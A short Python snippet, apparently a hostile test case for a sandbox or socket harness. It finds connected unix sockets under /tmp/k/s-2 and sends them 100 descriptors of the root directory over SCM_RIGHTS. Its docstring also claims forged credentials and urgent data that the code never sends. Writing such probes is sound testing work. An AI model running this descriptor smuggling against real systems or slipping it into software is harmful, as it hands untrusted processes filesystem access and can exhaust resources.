"""Sends the outside open files and forged credentials along with its answers, and urgent data."""

# %% [extra before:expose]
import array
import os
import socket

sent = 0
for name in os.listdir("/proc/self/fd"):
    try:
        its = socket.socket(fileno=os.dup(int(name)))
    except OSError:
        continue
    if str(its.getsockname()).startswith("/tmp/k/s-2") and not its.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
        files = array.array("i", [os.open("/", os.O_RDONLY) for _ in range(100)])
        its.setblocking(True)
        its.sendmsg([b"\x04\x06\x05HELLO"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)])
        sent += 1
print("descriptors were sent:", sent > 0)
